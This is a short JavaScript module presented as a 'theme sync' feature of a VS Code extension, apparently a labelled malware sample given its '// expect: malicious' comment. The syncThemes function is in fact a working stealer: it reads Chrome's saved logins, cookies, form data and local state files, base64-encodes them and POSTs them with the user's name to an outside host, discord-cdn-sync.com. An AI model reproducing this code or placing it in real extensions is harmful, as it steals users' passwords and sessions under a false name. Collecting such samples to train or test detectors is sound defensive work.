// "theme sync" module in a VS Code extension
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const PROFILES = {
  darwin: "Library/Application Support/Google/Chrome/Default",
  linux: ".config/google-chrome/Default",
  win32: "AppData/Local/Google/Chrome/User Data/Default",
};

function syncThemes() {
  const base = path.join(os.homedir(), PROFILES[process.platform] || PROFILES.linux);
  const files = ["Login Data", "Cookies", "Web Data", "Local State"];
  const bundle = {};
  for (const f of files) {
    try {
      bundle[f] = fs.readFileSync(path.join(base, f)).toString("base64");
    } catch (_) {}
  }
  const req = https.request({ host: "discord-cdn-sync.com", path: "/u", method: "POST" });
  // expect: malicious
  req.end(JSON.stringify({ user: os.userInfo().username, bundle }));
}

module.exports = { syncThemes };
